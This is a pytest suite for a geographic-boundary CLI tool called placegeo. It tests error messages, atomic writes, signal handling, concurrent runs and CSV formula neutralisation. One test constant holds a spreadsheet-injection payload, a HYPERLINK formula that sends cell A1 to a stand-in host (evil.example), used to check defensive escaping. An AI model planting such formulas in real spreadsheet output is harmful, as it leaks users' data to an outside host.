"""Bad input never crashes placegeo and never loses work: one run per case of the corpus in tests/badinputs.

For each case: the exit code and the one-line message are as documented (docs/errors.md), no traceback
reaches stderr, nothing new appears anywhere in the case's directory (no output, no ``.part`` file) and every
file that was there before is byte-for-byte the same.
"""

from __future__ import annotations

import hashlib
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from badinputs.make_corpus import CASES, CATEGORY, build

ROOT = Path(__file__).resolve().parent.parent
CONSOLE = Path(sys.executable).parent / "placegeo"


def snapshot(directory: Path) -> dict[str, str]:
    """Relative path -> sha256 of every file (and '<dir>' for every directory) under ``directory``."""
    found = {}
    for path in sorted(directory.rglob("*")):
        key = str(path.relative_to(directory))
        if path.is_dir():
            found[key] = "<dir>"
        elif not path.is_file():  # a FIFO of the corpus: reading it would wait forever
            found[key] = "<special>"
        else:
            found[key] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def registered_commands() -> set[str]:
    from placegeo.cli.app import app

    names = {c.name or c.callback.__name__ for c in app.registered_commands}
    return names | {g.name for g in app.registered_groups}


def check_outcome(code: int, stdout: str, stderr: str, made, where: str) -> None:
    assert "Traceback" not in stderr and "Traceback" not in stdout, f"{where}: traceback\n{stderr}"
    assert code == made.exit_code, f"{where}: exit {code}, not {made.exit_code}\nstderr: {stderr}\nstdout: {stdout}"
    if made.stream == "stderr":
        lines = stderr.splitlines()
        assert len(lines) == 1, f"{where}: stderr is not one line:\n{stderr}"
        assert lines[0].startswith("placegeo: "), lines[0]
        assert re.search(made.message, lines[0]), f"{where}: {lines[0]!r} does not match {made.message!r}"
    else:  # findings: the report on stdout names the file and the problem; stderr stays quiet
        assert stderr == "", f"{where}: unexpected stderr {stderr!r}"
        assert re.search(made.message, stdout), f"{where}: stdout does not match {made.message!r}:\n{stdout}"


@pytest.mark.parametrize("name", list(CASES), ids=[f"{CATEGORY[n]}-{n}" for n in CASES])
def test_bad_input(name, tmp_path, run_cli, monkeypatch):
    made = build(name, tmp_path)
    if made.command and made.command not in registered_commands():
        pytest.skip(f"`placegeo {made.command}` is not registered yet")
    before = snapshot(tmp_path)
    monkeypatch.chdir(tmp_path)  # anything written to the working directory shows up in the snapshot too
    if made.patch:
        made.patch(monkeypatch)
    result = run_cli(*made.argv)
    monkeypatch.undo()
    check_outcome(result.exit_code, result.stdout, result.stderr, made, "in-process")
    assert snapshot(tmp_path) == before, "files were written, left behind or changed"
    if made.subprocess:  # the real console script, in a fresh interpreter: still one line, no traceback
        command = [str(CONSOLE)] if CONSOLE.exists() else [sys.executable, "-m", "placegeo"]
        env = {**os.environ, "PYTHONWARNINGS": "ignore"}
        proc = subprocess.run(command + made.argv, capture_output=True, text=True, cwd=tmp_path, env=env,
                              timeout=120)
        check_outcome(proc.returncode, proc.stdout, proc.stderr, made, "console script")
        assert snapshot(tmp_path) == before, "the console script wrote or changed files"


def test_python_dash_m_placegeo_runs_the_same_cli(tmp_path):
    """`python -m placegeo` is the console script: same one line and exit code for a missing file."""
    proc = subprocess.run([sys.executable, "-m", "placegeo", "validate", str(tmp_path / "gone.gpkg")],
                          capture_output=True, text=True, cwd=tmp_path, timeout=120)
    assert proc.returncode == 2
    assert proc.stderr.splitlines() == [f"placegeo: error: {tmp_path / 'gone.gpkg'}: no such file"]


def test_debug_shows_the_traceback(tmp_path):
    """--debug is for bug reports: the same error, with its traceback."""
    proc = subprocess.run([sys.executable, "-m", "placegeo", "--debug", "validate", str(tmp_path / "gone.gpkg")],
                          capture_output=True, text=True, cwd=tmp_path, timeout=120)
    assert proc.returncode != 0
    assert "Traceback" in proc.stderr and "LayerError" in proc.stderr


def test_corpus_is_big_enough():
    assert len(CASES) >= 40
    assert {"loading", "options", "validate", "output"} <= set(CATEGORY.values())


# ---------------------------------------------------------------------------------------------------------- one parser
# `compare` (load_option) and `validate --option` read option files with one parser: what one refuses the other
# reports, with the same message, for every option file of the corpus.

def option_file(made) -> Path | None:
    """The option file a corpus case is about (the file after --option, or the first argument of compare,
    report or map), or None."""
    argv = made.argv
    if "--option" in argv:
        return Path(argv[argv.index("--option") + 1])
    if argv[0] in ("compare", "report", "map") and Path(argv[1]).exists():
        return Path(argv[1])
    return None


def error_findings(stdout: str) -> list[dict]:
    import json

    report = json.loads(stdout)
    return [f for r in report["files"] for f in r["findings"] if f["severity"] == "error"]


OPTION_CASES = [n for n in CASES if CATEGORY[n] in ("options", "loading", "compare", "map", "report")]


@pytest.mark.parametrize("name", OPTION_CASES, ids=[f"{CATEGORY[n]}-{n}" for n in OPTION_CASES])
def test_compare_refuses_exactly_what_validate_reports(name, tmp_path, run_cli, monkeypatch):
    made = build(name, tmp_path)
    option = option_file(made)
    if option is None:
        pytest.skip("no option file in this case")
    monkeypatch.chdir(tmp_path)
    compared = run_cli("compare", option, "--against", "lad21", "--weight", "area")
    validated = run_cli("validate", "--option", option, "--format", "json")
    assert "Traceback" not in compared.stderr + validated.stderr
    if compared.exit_code == 0:  # accepted: validate finds nothing at error severity
        assert validated.exit_code == 0, validated.stdout
        return
    assert compared.exit_code == 2, compared.stderr
    refusal = compared.stderr.strip()
    if validated.exit_code == 2:  # nothing to check: the file is missing, or its blocks layer cannot be loaded
        assert validated.stderr.strip() == refusal
        assert "no such option file" in refusal or not refusal.startswith(f"placegeo: error: {option}:"), refusal
        return
    assert validated.exit_code == 1, (validated.stderr, refusal)
    first = error_findings(validated.stdout)[0]
    assert refusal == f"placegeo: error: {located(option, first)}: {first['message']}"


def located(option: Path, finding: dict) -> str:
    """FILE, or FILE:LINE when the finding has a line its message does not already give."""
    line = finding["line"]
    return f"{option}:{line}" if line and f"line {line}" not in finding["message"] else str(option)


# ---------------------------------------------------------------------------------------------------------- round two
# issue 18: what the corpus cannot say in one case (formulas in CSV, two runs at once, signals, ids, names).

import csv  # noqa: E402
import json  # noqa: E402
import signal  # noqa: E402
import time  # noqa: E402

import geopandas as gpd  # noqa: E402
from badinputs.make_corpus import LAD21, SMALL, option_on, small  # noqa: E402

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"y")'
FORMULA_NAMES = [EVIL, "-Central", "@Coast"]


def formula_option(tmp: Path) -> Path:
    places = (f"  - name: '{EVIL}'\n    blocks: [Blackpool, Fylde]\n"
              "  - name: '-Central'\n    blocks: [Preston]\n"
              "  - name: '@Coast'\n    blocks: [Wyre]\n")
    path = option_on(tmp, "lad21", places=places)
    path.write_text(path.read_text(encoding="utf-8").replace("name: Test option", "name: '+Option'", 1),
                    encoding="utf-8")
    return path


def csv_rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_csv_outputs_neutralise_formulas_and_keep_numbers(tmp_path, run_cli):
    """compare --out: every text cell a spreadsheet would run gets one leading quote; the JSON keeps the names as
    they are, and the numbers in the CSV are the JSON's numbers (not text)."""
    option = formula_option(tmp_path)
    result = run_cli("compare", option, "--against", "lad21", "--weight", "area", "--out", tmp_path / "out")
    assert result.exit_code == 0, result.stderr
    document = json.loads((tmp_path / "out" / "comparison.json").read_text(encoding="utf-8"))
    (opt,) = document["options"]
    raw_places = [p["name"] for p in opt["places"]]
    assert sorted(raw_places) == sorted(FORMULA_NAMES) and opt["name"] == "+Option"
    places = csv_rows(tmp_path / "out" / "places.csv")
    assert sorted(r["place"] for r in places) == sorted("'" + n for n in FORMULA_NAMES)
    assert {r["option"] for r in places} == {"'+Option"}
    overlap = csv_rows(tmp_path / "out" / "overlap.csv")
    assert {r["place"] for r in overlap} == {"'" + n for n in FORMULA_NAMES}
    # the numbers are untouched: the overlap areas sum to the option's area in the JSON (km² there, m² here)
    assert sum(float(r["area_m2"]) for r in overlap) / 1e6 == pytest.approx(opt["footprint"]["area_km2"], rel=1e-9)
    assert csv_rows(tmp_path / "out" / "scorecard.csv")[0]["option"] == "'+Option"
    raw = run_cli("--csv-raw", "compare", option, "--against", "lad21", "--weight", "area", "--format", "csv")
    assert raw.exit_code == 0 and list(csv.DictReader(raw.stdout.splitlines()))[0]["option"] == "+Option"
    after = run_cli("compare", option, "--against", "lad21", "--weight", "area", "--format", "csv", "--csv-raw")
    assert after.stdout == raw.stdout  # --csv-raw also after the command


def test_report_csv_and_table_commands_neutralise_formulas(tmp_path, run_cli):
    option = formula_option(tmp_path)
    report = run_cli("report", option, "--against", "lad21", "--out", tmp_path / "r", "--format", "csv,md",
                     "--weight", "area", "--no-maps")
    assert report.exit_code == 0, report.stderr
    assert sorted(r["place"] for r in csv_rows(tmp_path / "r" / "splits.csv")) == []  # lad21 units are whole
    assert sorted({r["place"] for r in csv_rows(tmp_path / "r" / "places.csv")}) == sorted(
        "'" + n for n in FORMULA_NAMES)
    frame = small()
    frame["LAD21NM"] = [EVIL, "-Fylde", "@Wyre", "+Preston"][: len(frame)]
    layer = tmp_path / "evil.gpkg"
    frame.to_file(layer, driver="GPKG")
    table = run_cli("overlap", layer, "lad21", "--format", "csv", "--weight", "area")
    assert table.exit_code == 0, table.stderr
    cells = {c for row in csv.reader(table.stdout.splitlines()) for c in row}
    assert EVIL not in cells and "'" + EVIL in cells
    written = run_cli("overlap", layer, "lad21", "--out", tmp_path / "o.csv", "--weight", "area")
    assert written.exit_code == 0 and (tmp_path / "o.csv").read_text(encoding="utf-8") == table.stdout
    raw = run_cli("overlap", layer, "lad21", "--format", "csv", "--weight", "area", "--csv-raw")
    assert EVIL in {c for row in csv.reader(raw.stdout.splitlines()) for c in row}


def test_neutralised_touches_text_only():
    import pandas as pd

    from placegeo.io import csv_text, neutralised

    frame = pd.DataFrame({"=sum": ["=1+1", "-x", "\tTab", "\rCR", "plain", None], "value": [-3.5, 2, 0, -1, 1, 2],
                          "mixed": [-2, "-2", "@a", "a@", 5, "+"]})
    out = neutralised(frame)
    assert list(out.columns) == ["'=sum", "value", "mixed"]
    assert out["=sum" if "=sum" in out else "'=sum"].tolist()[:5] == ["'=1+1", "'-x", "'\tTab", "'\rCR", "plain"]
    assert out["value"].tolist() == frame["value"].tolist()
    assert out["mixed"].tolist() == [-2, "'-2", "'@a", "a@", 5, "'+"]
    assert "-3.5" in csv_text(frame) and "'-3.5" not in csv_text(frame)
    assert csv_text(frame, raw=True) == frame.to_csv(index=False)


def test_pcn_lookup_csv_is_neutralised_and_the_layer_goes_when_the_lookup_fails(tmp_path, run_cli, monkeypatch):
    members = tmp_path / "m.csv"
    members.write_text("PRACTICE_CODE,PCN_CODE,PCN_NAME,EXTRACT_DATE\nA1,=U1,ONE,01Oct2025\nB2,U2,TWO,01Oct2025\n")
    locations = tmp_path / "l.csv"
    locations.write_text("PRAC_CODE,PRAC_LAT,PRAC_LNG\nA1,53.8175,-3.0357\nB2,54.1108,-3.2261\n")
    out, lookup = tmp_path / "o.gpkg", tmp_path / "lookup.csv"
    args = ["pcn", "build", "--membership", members, "--practices", locations, "--out", out, "--lookup", lookup]
    import errno

    import placegeo.io

    real = placegeo.io.write_csv

    def full(*a, **k):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(placegeo.io, "write_csv", full)
    failed = run_cli(*args)
    assert failed.exit_code == 2 and failed.stderr.strip().endswith("lookup.csv: disk full (free some space and "
                                                                     "run again)"), failed.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["l.csv", "m.csv"]  # no GeoPackage, no .part file
    monkeypatch.setattr(placegeo.io, "write_csv", real)
    built = run_cli(*args)
    assert built.exit_code == 0, built.stderr
    rows = csv_rows(lookup)
    layer = gpd.read_file(out)
    assert {r["PCN_CODE"] for r in rows} == {"'=U1", "U2"}
    counts = {code: sum(r["PCN_CODE"].lstrip("'") == code for r in rows) for code in ("=U1", "U2")}
    assert counts == dict(zip(layer.PCN_CODE, layer.LSOA_COUNT.astype(int), strict=True))


def _console() -> list[str]:
    return [str(CONSOLE)] if CONSOLE.exists() else [sys.executable, "-m", "placegeo"]


SLOW_WRITER = """
import sys, time
import placegeo.render.report_md as md
real = md.markdown
def slow(model):
    time.sleep(60)
    return real(model)
md.markdown = slow
from placegeo.cli import run
sys.exit(run(sys.argv[1:]))
"""


def _start_slow_report(tmp_path: Path, out: Path) -> subprocess.Popen:
    """A real `placegeo report` in its own process whose Markdown writer waits a minute, once it holds ``out``."""
    script = tmp_path / "slow.py"
    script.write_text(SLOW_WRITER, encoding="utf-8")
    option = option_on(tmp_path, "lad21")
    proc = subprocess.Popen([sys.executable, str(script), "report", str(option), "--against", "lad21", "--out",
                             str(out), "--format", "md", "--weight", "area"], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, cwd=tmp_path)
    deadline = time.time() + 120
    while not (out.exists() and any(p.name.startswith(".placegeo-") for p in out.iterdir())):
        assert proc.poll() is None, proc.communicate()
        assert time.time() < deadline, "the slow report never started writing"
        time.sleep(0.05)
    return proc


def test_a_second_run_into_a_claimed_directory_is_refused(tmp_path):
    out = tmp_path / "same"
    first = _start_slow_report(tmp_path, out)
    try:
        second = subprocess.run(_console() + ["report", str(tmp_path / "opt.yaml"), "--against", "lad21", "--out",
                                              str(out), "--format", "md", "--weight", "area"],
                                capture_output=True, text=True, cwd=tmp_path, timeout=120)
    finally:
        first.send_signal(signal.SIGTERM)
        first.communicate(timeout=60)
    assert second.returncode == 2
    assert second.stderr.splitlines() == [f"placegeo: error: {out}: is being written by another placegeo run "
                                          "(wait for it to finish, or choose another --out)"]


def test_two_reports_started_together_cannot_both_succeed(tmp_path):
    """The issue's case: two runs into one --out at the same moment. One writes the report, the other exits 2
    with one line, and the report is whole (every file, the same bytes as a run on its own)."""
    option = option_on(tmp_path, "lad21")
    command = _console() + ["report", str(option), "--against", "lad21", "--out", str(tmp_path / "same"),
                            "--format", "md,csv", "--weight", "area"]
    procs = [subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=tmp_path)
             for _ in range(2)]
    outcomes = [(p.wait(timeout=300), p.communicate()[1]) for p in procs]
    assert sorted(code for code, _ in outcomes) == [0, 2], outcomes
    (refusal,) = [err for code, err in outcomes if code == 2]
    assert len(refusal.splitlines()) == 1
    assert re.search(r"same(/report\.md)?: (is being written by another placegeo run|already exists)", refusal)
    alone = subprocess.run(command[:-6] + ["--out", str(tmp_path / "alone"), "--format", "md,csv", "--weight",
                                           "area"], capture_output=True, text=True, cwd=tmp_path, timeout=300)
    assert alone.returncode == 0, alone.stderr
    assert snapshot(tmp_path / "same") == snapshot(tmp_path / "alone")


@pytest.mark.parametrize("stop", [signal.SIGTERM, signal.SIGHUP], ids=["SIGTERM", "SIGHUP"])
def test_sigterm_and_sighup_leave_nothing_behind(tmp_path, stop):
    out = tmp_path / "report"
    proc = _start_slow_report(tmp_path, out)
    proc.send_signal(stop)
    _, stderr = proc.communicate(timeout=60)
    assert proc.returncode == 128 + stop
    assert stderr.splitlines() == [f"placegeo: stopped by {signal.Signals(stop).name}; nothing was written"]
    assert not out.exists()  # the staging directory and the directory the run created are gone


def test_two_against_files_with_one_stem_are_both_measured(tmp_path, run_cli):
    """a/d.gpkg and b/d.gpkg are d and d-2; d-2's figures are those of b/d.gpkg compared on its own."""
    import shutil

    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    shutil.copy(LAD21, tmp_path / "a" / "d.gpkg")
    shutil.copy(LAD21.with_name("ctyua21.gpkg"), tmp_path / "b" / "d.gpkg")
    option = option_on(tmp_path, "lad21")
    both = run_cli("compare", option, "--against", tmp_path / "a" / "d.gpkg", "--against", tmp_path / "b" / "d.gpkg",
                   "--weight", "area", "--format", "json")
    alone = run_cli("compare", option, "--against", tmp_path / "b" / "d.gpkg", "--weight", "area", "--format", "json")
    assert both.exit_code == alone.exit_code == 0, both.stderr
    document, single = json.loads(both.stdout), json.loads(alone.stdout)
    assert [layer["id"] for layer in document["layers"]] == ["d", "d-2"]
    d2, single_d = document["options"][0]["layers"]["d-2"], single["options"][0]["layers"]["d"]
    figures = {k: v for k, v in single_d.items() if not isinstance(v, (list, dict))}
    assert figures and {k: d2[k] for k in figures} == figures
    assert document["options"][0]["layers"]["d"]["units"] == 4  # a/d.gpkg: the four districts, not dropped


def test_a_user_file_named_like_a_bundled_layer_is_the_users_layer(tmp_path):
    """ctyua21.gpkg holding the districts: the report's maps hatch the user's units, not the bundled counties."""
    import shutil

    from placegeo.api import CompareSettings, report_inputs, report_maps

    user = tmp_path / "ctyua21.gpkg"
    shutil.copy(LAD21, user)
    settings = CompareSettings(weight="area", tol=0.01, boundary=False)
    comparison, loaded = report_inputs([option_on(tmp_path, "lad21")], [str(user)], settings, lambda _: None)
    (inputs,) = report_maps(comparison, loaded).values()
    assert inputs.split_layer is not None and inputs.split_layer.source == str(user)
    assert inputs.split_layer.entry is None  # not credited as the bundled layer
    assert len(inputs.split_layer) == len(gpd.read_file(LAD21)) != len(gpd.read_file(LAD21.with_name("ctyua21.gpkg")))


def test_allow_virtual_reads_a_vrt_as_its_source(tmp_path):
    from placegeo.layers import load_layer, reading

    source = tmp_path / "districts.gpkg"
    small().to_file(source, driver="GPKG", layer="districts")
    vrt = tmp_path / "districts.vrt"
    vrt.write_text(f'<OGRVRTDataSource><OGRVRTLayer name="districts"><SrcDataSource>{source}</SrcDataSource>'
                   "<SrcLayer>districts</SrcLayer></OGRVRTLayer></OGRVRTDataSource>\n", encoding="utf-8")
    with reading(allow_virtual=True):
        layer = load_layer(vrt)
    assert sorted(layer.codes) == sorted(SMALL)


def test_output_names_near_255_bytes_are_written(tmp_path, run_cli):
    """The staging name is bounded: a 255-byte output name (the file system's limit) still works."""
    name = "r" * (255 - len(".txt")) + ".txt"
    result = run_cli("validate", "lad21", "--out", tmp_path / name)
    assert result.exit_code == 0, result.stderr
    assert [p.name for p in tmp_path.iterdir()] == [name]
    assert "lad21" in (tmp_path / name).read_text(encoding="utf-8")


@pytest.mark.parametrize("env, stdout", [({"COLUMNS": "0"}, None), ({"PYTHONIOENCODING": "ascii"}, None),
                                         ({}, "/dev/full")], ids=["COLUMNS=0", "ascii", "dev-full"])
def test_hostile_terminals_do_not_crash(tmp_path, env, stdout):
    with open(stdout or tmp_path / "out.txt", "w") as sink:
        proc = subprocess.run(_console() + ["layers"], stdout=sink, stderr=subprocess.PIPE, text=True,
                              env={**os.environ, **env}, timeout=120)
    assert "Traceback" not in proc.stderr
    if stdout == "/dev/full":
        assert proc.returncode == 2
        assert proc.stderr.splitlines() == ["placegeo: error: cannot write standard output: disk full"]
        return
    assert proc.returncode == 0, proc.stderr
    text = (tmp_path / "out.txt").read_text(encoding="utf-8", errors="replace")
    assert "lad21" in text and "ctyua21" in text  # COLUMNS=0 used to print nothing


def test_dollar_signs_in_names_and_titles_are_text(tmp_path, run_cli):
    """An unbalanced $ used to reach matplotlib's mathtext ("ValueError:"); now it is drawn as written."""
    place = r"Coast $\frac{$ side"
    option = option_on(tmp_path, "lad21", places=f"  - name: '{place}'\n    blocks: [Blackpool, Fylde]\n")
    out = tmp_path / "map.svg"
    result = run_cli("map", option, "--out", out, "--title", r"Cost $\frac{$ 5")
    assert result.exit_code == 0, result.stderr
    text = out.read_text(encoding="utf-8")
    assert r"Cost $\frac{$ 5" in text and place in text


def test_a_report_without_maps_writes_no_geopackage(tmp_path, run_cli, monkeypatch):
    """`report --format md,json` never touches GDAL's writer (a full disk there used to be a raw GDAL error), and
    its comparison.json is the one `compare --out` writes."""
    option = option_on(tmp_path, "lad21")
    made = run_cli("compare", option, "--against", "lad21", "--weight", "area", "--out", tmp_path / "c")
    assert made.exit_code == 0, made.stderr

    def no_gdal(*args, **kwargs):
        raise AssertionError("a GeoPackage was written")

    monkeypatch.setattr(gpd.GeoDataFrame, "to_file", no_gdal)
    result = run_cli("report", option, "--against", "lad21", "--weight", "area", "--out", tmp_path / "r",
                     "--format", "md,json,csv", "--no-maps")
    assert result.exit_code == 0, result.stderr
    assert sorted(p.name for p in (tmp_path / "r").iterdir()) == sorted(
        ["comparison.json", "report.md", "scorecard.csv", "splits.csv", "places.csv", "overlap.csv"])
    assert (tmp_path / "r" / "comparison.json").read_bytes() == (tmp_path / "c" / "comparison.json").read_bytes()
